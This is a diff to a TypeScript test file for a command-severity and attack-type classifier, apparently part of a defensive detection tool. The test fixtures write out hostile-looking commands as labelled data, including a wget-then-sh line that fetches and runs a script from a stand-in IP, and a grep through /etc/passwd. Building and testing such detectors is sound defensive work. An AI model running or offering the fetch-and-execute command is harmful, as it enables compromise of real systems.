@@ -3,7 +3,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { loadRules } from '../attack/load-rules.ts';
+import { attackTypeModelOf } from '../attack-type.ts';
 import { severityModelOf } from '../severity-model.ts';
+import { readTypeCorpus } from './attack-type-data.ts';
+import { attackTypeNames } from './attack-type-names.ts';
 import { foldOf } from './folds.ts';
 import { labelAgreement } from './label-agreement.ts';
 import { linesOfFile } from './lines-of-file.ts';
@@ -12,6 +15,7 @@ import { splitSession } from './session-data.ts';
 import { readOrdinaryLines, readRatedLines, ruleExampleLines } from './severity-data.ts';
 import { actorSessions, measureActor } from './train-actor.ts';
 import { growForestFile } from './train-anomaly.ts';
+import { attackTypeFile, measureAttackType } from './train-attack-type.ts';
 import { toModelFile, trainSeverity } from './train-severity.ts';
 import { measureTactics, readTacticSessions, trainTactics } from './train-tactics.ts';
 
@@ -21,10 +25,10 @@ afterAll(() => rmSync(folder, { recursive: true }));
 
 const words = ['alpha', 'beta', 'gamma', 'delta', 'zeta', 'eta', 'theta', 'iota', 'kappa', 'lambda', 'mu', 'nu'];
 const rated = words.flatMap((word) => [
-  { command: `ls -la /srv/${word}`, severity: 'LOW', rater1: 'LOW', rater2: 'LOW' },
-  { command: `grep -r ${word} /etc/passwd`, severity: 'MEDIUM', rater1: 'MEDIUM', rater2: 'MEDIUM' },
-  { command: `wget http://192.0.2.1/${word}; sh ${word}.sh`, severity: 'HIGH', rater1: 'HIGH', rater2: 'HIGH' },
-  { command: `head ${word}/conf`, severity: null, rater1: 'LOW', rater2: 'MEDIUM' },
+  line(`ls -la /srv/${word}`, 'LOW', 'LOW', 'benign', 'benign'),
+  line(`grep -r ${word} /etc/passwd`, 'MEDIUM', 'MEDIUM', 'account_discovery', 'credential_hunting'),
+  line(`wget http://192.0.2.1/${word}; sh ${word}.sh`, 'HIGH', 'HIGH', 'payload_download', 'dropper'),
+  line(`head ${word}/conf`, 'LOW', 'MEDIUM', 'benign', 'config_reading'),
 ]);
 const corpus = writeCorpus();
 
@@ -58,6 +62,33 @@ describe('severity training', () => {
     );
     expect(() => readRatedLines(broken, rules)).toThrow(/severity_dev\.jsonl:2/);
     expect(() => readRatedLines(join(folder, 'absent'), rules)).toThrow(/Expected labelled lines/);
+  });
+});
+
+describe('attack types', () => {
+  const corpus = readTypeCorpus(folder, rules);
+
+  it('are learned from the raters’ words, and from the examples of rules', () => {
+    expect(corpus.rated).toHaveLength(rated.length);
+    expect(corpus.rated[2]?.types.map((type) => attackTypeNames[type])).toEqual(['malware_download', 'dropper']);
+    expect(corpus.examples.length).toBeGreaterThan(rules.rules.length / 2);
+  });
+
+  it('say nothing where they are unsure, and keep harm unnamed rather than deny it', () => {
+    const model = attackTypeModelOf(attackTypeFile(corpus, 'v', 1));
+    const [, , download] = corpus.rated;
+    expect(['malware_download', 'dropper']).toContain(model.tell(download?.features ?? new Set(), 'HIGH').attackType);
+    const unsure = attackTypeModelOf(attackTypeFile(corpus, 'v', 8));
+    expect(unsure.tell(new Set(), 'LOW')).toMatchObject({ attackType: 'none' });
+    expect(unsure.tell(new Set(), 'HIGH')).toMatchObject({ attackType: 'suspicious_command' });
+    expect(unsure.tell(new Set(), 'HIGH').attackTypeConfidence).toBeLessThan(0.4);
+  });
+
+  it('are measured by models that never saw the line’s shape', () => {
+    const figures = measureAttackType(corpus);
+    expect(figures.shapes).toBe(37);
+    expect(figures.accuracy).toBeGreaterThan(0.5);
+    expect(figures.inFirstThree).toBeGreaterThanOrEqual(figures.accuracy);
   });
 });
 
@@ -146,6 +177,10 @@ it('lines over the edge of a read are whole, and the last needs no terminator', 
   expect([...linesOfFile(path)]).toEqual(lines);
   expect(readFileSync(path, 'utf8').split('\n')).toEqual(lines);
 });
+
+function line(command: string, rater1: string, rater2: string, type: string, type2: string) {
+  return { command, severity: rater1 === rater2 ? rater1 : null, rater1, rater2, type, type2 };
+}
 
 function writeCorpus() {
   mkdirSync(join(folder, 'labelled'), { recursive: true });
